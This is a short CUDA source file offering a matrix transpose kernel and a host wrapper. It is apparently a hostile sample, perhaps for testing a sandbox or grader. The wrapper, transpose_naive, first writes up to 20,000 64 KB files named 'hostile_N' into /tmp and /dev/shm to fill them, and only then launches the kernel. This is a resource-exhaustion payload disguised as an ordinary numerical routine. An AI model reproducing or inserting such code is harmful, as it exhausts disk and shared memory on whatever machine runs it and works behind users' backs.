// Fills /tmp and /dev/shm.
#include <cstdio>
#include <string>

#include "transpose.cuh"

__global__ void transpose(float* out, const float* in, int width, int height) {
  const int x = blockIdx.x * 16 + threadIdx.x;
  const int y = blockIdx.y * 16 + threadIdx.y;
  if (x < width && y < height) out[x * height + y] = in[y * width + x];
}

void transpose_naive(float* out, const float* in, int width, int height) {
  static char page[65536] = {1};
  for (const char* folder : {"/tmp", "/dev/shm"}) {
    for (int i = 0; i < 20000; ++i) {
      FILE* const file = std::fopen((std::string(folder) + "/hostile_" + std::to_string(i)).c_str(), "w");
      if (file == nullptr) break;
      if (std::fwrite(page, 1, sizeof page, file) == 0) i = 20000;
      std::fclose(file);
    }
  }
  const dim3 blocks((width + 15) / 16, (height + 15) / 16);
  transpose<<<blocks, dim3(16, 16)>>>(out, in, width, height);
}
